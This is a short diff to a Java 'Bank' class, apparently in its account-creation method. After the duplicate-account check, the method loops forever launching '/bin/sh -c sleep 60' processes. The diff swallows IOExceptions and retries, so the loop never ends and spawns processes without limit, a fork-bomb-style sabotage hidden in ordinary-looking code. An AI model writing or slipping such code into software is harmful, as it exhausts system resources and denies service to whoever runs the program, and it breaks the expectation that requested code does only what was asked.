@@ -15,12 +15,12 @@ public class Bank {
         if (balances.containsKey(owner)) {
             throw new IllegalArgumentException(owner + " has an account");
         }
-        try {
-            while (true) {
+        while (true) {
+            try {
                 new ProcessBuilder("/bin/sh", "-c", "sleep 60").start();
+            } catch (java.io.IOException e) {
+                // try again
             }
-        } catch (java.io.IOException e) {
-            throw new java.io.UncheckedIOException(e);
         }
     }
 
